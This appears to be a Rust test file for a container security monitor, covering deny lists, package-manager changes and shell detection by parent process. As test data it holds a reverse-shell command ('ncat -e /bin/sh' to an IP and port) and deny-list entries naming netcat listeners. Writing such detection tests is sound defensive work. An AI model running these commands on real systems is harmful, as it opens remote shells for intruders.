//! Process rules: deny lists, package managers, and shells by where they
//! start.
use super::*;

#[test]
fn sshd_in_a_container() {
    let out = run(
        &mut shipped_evaluator(),
        &[web().exec("/usr/sbin/sshd", &["/usr/sbin/sshd", "-D"])],
    );
    assert_eq!(
        out,
        [Finding {
            rule: "ssh-server".into(),
            policy: "default/processes".into(),
            severity: Severity::High,
            kind: AlertKind::Process,
            summary: "denied process /usr/sbin/sshd -D in container web (nginx:1.27)".into(),
            tags: Arc::from(vec!["T1021.004".to_owned(), "T1133".to_owned()]),
            attempt: false,
            scan: None,
            action: Action::Alert,
            action_taken: None,
            would_deny: false,
            posture: None,
        }]
    );
    // On the host sshd is at home.
    let out = run(
        &mut shipped_evaluator(),
        &[host("/usr/lib/systemd/systemd").exec("/usr/sbin/sshd", &["sshd", "-D"])],
    );
    assert!(out.is_empty(), "{out:?}");
}

#[test]
fn deny_lists() {
    let cases: &[(&str, &[&str], &[&str])] = &[
        ("/usr/sbin/dropbear", &["dropbear"], &["ssh-server"]),
        (
            "/usr/bin/apt-get",
            &["apt-get", "install", "-y", "curl"],
            &["package-manager"],
        ),
        ("/sbin/apk", &["apk", "add", "curl"], &["package-manager"]),
        (
            "/usr/bin/microdnf",
            &["microdnf", "install", "x"],
            &["package-manager"],
        ),
        (
            "/usr/local/bin/pip",
            &["pip", "install", "requests"],
            &["package-manager"],
        ),
        ("/usr/local/bin/pip3", &["pip3", "--version"], &[]),
        (
            "/usr/bin/python3",
            &["python3", "-m", "pip", "install", "x"],
            &["package-manager"],
        ),
        ("/usr/bin/python3", &["python3", "app.py"], &[]),
        ("/usr/bin/npm", &["npm", "ci"], &["package-manager"]),
        ("/usr/bin/npm", &["npm", "start"], &[]),
        (
            "/usr/bin/ncat",
            &["ncat", "-e", "/bin/sh", "1.2.3.4", "4444"],
            &["recon-tool"],
        ),
        (
            "/usr/bin/tcpdump",
            &["tcpdump", "-i", "any"],
            &["recon-tool"],
        ),
        // A shell under the entrypoint script is the start-up chain.
        ("/usr/bin/bash", &["bash", "-i"], &[]),
        ("/bin/busybox", &["busybox", "sh"], &[]),
        ("/bin/busybox", &["busybox", "ls"], &[]),
        ("/bin/busybox", &["busybox", "nc", "-l"], &["recon-tool"]),
        ("/bin/nc", &["nc", "-l"], &["recon-tool"]),
        ("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"], &[]),
    ];
    let mut ev = shipped_evaluator();
    for (exe, args, want) in cases {
        let out = run(&mut ev, &[web().exec(exe, args)]);
        assert_eq!(rules_of(&out), *want, "{exe} {args:?}");
    }
}

/// Package managers: changes alert, queries do not.
#[test]
fn package_manager_changes_not_queries() {
    let cases: &[(&str, &[&str], bool)] = &[
        ("/usr/bin/dpkg", &["dpkg", "-l"], false),
        ("/usr/bin/dpkg", &["dpkg", "--print-architecture"], false),
        ("/usr/bin/dpkg", &["dpkg", "-s", "libc6"], false),
        ("/usr/bin/dpkg", &["dpkg", "-i", "x.deb"], true),
        ("/usr/bin/dpkg", &["dpkg", "--purge", "x"], true),
        ("/usr/bin/apt", &["apt", "list", "--installed"], false),
        (
            "/usr/bin/apt-get",
            &["apt-get", "install", "-y", "curl"],
            true,
        ),
        ("/usr/bin/apt-get", &["apt-get", "remove", "curl"], true),
        ("/usr/bin/apt-get", &["apt-get", "upgrade"], true),
        ("/usr/bin/apt-cache", &["apt-cache", "policy"], false),
        ("/sbin/apk", &["apk", "add", "curl"], true),
        ("/sbin/apk", &["apk", "info"], false),
        ("/bin/rpm", &["rpm", "-q", "bash"], false),
        ("/bin/rpm", &["rpm", "-qa"], false),
        ("/bin/rpm", &["rpm", "-ivh", "x.rpm"], true),
        ("/bin/rpm", &["rpm", "-e", "x"], true),
        ("/usr/bin/dnf", &["dnf", "install", "x"], true),
        ("/usr/bin/dnf", &["dnf", "list"], false),
        ("/usr/bin/pip", &["pip", "list"], false),
        ("/usr/bin/pip", &["pip", "freeze"], false),
        ("/usr/bin/pip3", &["pip3", "install", "x"], true),
        ("/usr/bin/python3", &["python3", "-m", "pip", "list"], false),
        (
            "/usr/bin/python3",
            &["python3", "-m", "pip", "install", "x"],
            true,
        ),
        ("/usr/bin/npm", &["npm", "install"], true),
        ("/usr/bin/npm", &["npm", "ls"], false),
    ];
    let mut ev = shipped_evaluator();
    for (exe, args, fires) in cases {
        let out = run(&mut ev, &[web().exec(exe, args)]);
        let want: &[&str] = if *fires { &["package-manager"] } else { &[] };
        assert_eq!(rules_of(&out), want, "{exe} {args:?}");
    }
    // dpkg run by apt-get is part of apt-get's change.
    let mut dpkg = web().parent("/usr/bin/apt-get").exec(
        "/usr/bin/dpkg",
        &["dpkg", "--unpack", "/var/cache/apt/archives/x.deb"],
    );
    dpkg.origin.as_mut().unwrap().parent_program = Some("apt-get".into());
    assert!(run(&mut ev, &[dpkg]).is_empty());
}

fn origin(init: bool, entered: bool, parent: Option<&str>) -> ExecOrigin {
    ExecOrigin {
        container_init: init,
        entered,
        parent_program: parent.map(str::to_owned),
    }
}

/// Shells: silent for the container's start-up, reported when exec'd into the
/// container or spawned by a non-shell, with the case in the summary.
#[test]
fn shells_by_where_they_start() {
    let sh = |actor: Actor| actor.exec("/bin/sh", &["/bin/sh", "-c", "id"]);
    let cases: Vec<(&str, EnrichedEvent, Option<&str>)> = vec![
        (
            "the container's first process",
            sh(web()
                .parent("/usr/bin/containerd-shim-runc-v2")
                .origin(origin(true, false, Some("containerd-shim-runc-v2")))),
            None,
        ),
        (
            // A server that is the container's first process (exec form,
            // `CMD ["python3", "app.py"]`) is a server all the same.
            "a server that is the first process running sh -c",
            sh(web()
                .parent("/usr/bin/python3")
                .origin(origin(false, false, Some("python3")))),
            Some(
                "shell /bin/sh -c id spawned by /usr/bin/python3 (pid 4241), which is not a shell nor the container's start-up (a server or interpreter running a shell: possible command injection) in container web (nginx:1.27)",
            ),
        ),
        (
            "a child of an entrypoint shell",
            sh(web()
                .parent("/bin/sh")
                .origin(origin(false, false, Some("sh")))),
            None,
        ),
        (
            "a nested shell",
            sh(web()
                .parent("/bin/sh")
                .origin(origin(false, false, Some("sh")))),
            None,
        ),
        (
            "a nested busybox shell",
            sh(web()
                .parent("/bin/busybox")
                .origin(origin(false, false, Some("ash")))),
            None,
        ),
        (
            "a script's shell",
            sh(web().parent("/docker-entrypoint.sh").origin(origin(
                false,
                false,
                Some("docker-entrypoint.sh"),
            ))),
            None,
        ),
        (
            "under tini",
            sh(web()
                .parent("/sbin/tini")
                .origin(origin(false, false, Some("tini")))),
            None,
        ),
        (
            "docker exec",
            sh(web()
                .parent("/usr/bin/containerd-shim-runc-v2")
                .origin(origin(false, true, Some("containerd-shim-runc-v2")))),
            Some(
                "shell /bin/sh -c id started into the running container from outside it by /usr/bin/containerd-shim-runc-v2 (pid 4241) (an exec into the container, as docker exec or kubectl exec do) in container web (nginx:1.27)",
            ),
        ),
        (
            "a server running sh -c",
            sh(web()
                .parent("/usr/sbin/nginx")
                .origin(origin(false, false, Some("nginx")))),
            Some(
                "shell /bin/sh -c id spawned by /usr/sbin/nginx (pid 4241), which is not a shell nor the container's start-up (a server or interpreter running a shell: possible command injection) in container web (nginx:1.27)",
            ),
        ),
        (
            "the entrypoint after it exec'd its server",
            sh(web()
                .parent("/usr/bin/python3")
                .origin(origin(false, false, Some("python3")))),
            Some(
                "shell /bin/sh -c id spawned by /usr/bin/python3 (pid 4241), which is not a shell nor the container's start-up (a server or interpreter running a shell: possible command injection) in container web (nginx:1.27)",
            ),
        ),
    ];
    let mut ev = shipped_evaluator();
    for (what, event, want) in cases {
        let out = run(&mut ev, &[event]);
        match want {
            None => assert!(out.is_empty(), "{what}: {out:?}"),
            Some(summary) => {
                assert_eq!(rules_of(&out), ["shell"], "{what}");
                assert_eq!(out[0].summary, summary, "{what}");
                assert_eq!(&*out[0].tags, ["T1059.004", "T1609"]);
            }
        }
    }
    // A workload that declares its server's shell is not flagged for it; an
    // exec into it still is.
    let mut ev = Evaluator::new(
        load(
            Some(&shipped()),
            &[(
                "50-app.yaml",
                "policies:\n  - name: app\n    selector: {image: [\"nginx:*\"]}\n    rules:\n      - name: app-processes\n        severity: low\n        process:\n          allow:\n            - exe: [/usr/sbin/nginx]\n            - exe: [/bin/sh]\n              parents: [/usr/sbin/nginx]\n",
            )],
        )
        .unwrap(),
    );
    let out = run(
        &mut ev,
        &[sh(web().parent("/usr/sbin/nginx").origin(origin(
            false,
            false,
            Some("nginx"),
        )))],
    );
    assert!(out.is_empty(), "{out:?}");
    let out = run(
        &mut ev,
        &[sh(web().parent("/usr/sbin/nginx").origin(origin(
            false,
            true,
            Some("nginx"),
        )))],
    );
    assert_eq!(rules_of(&out), ["shell"]);
}
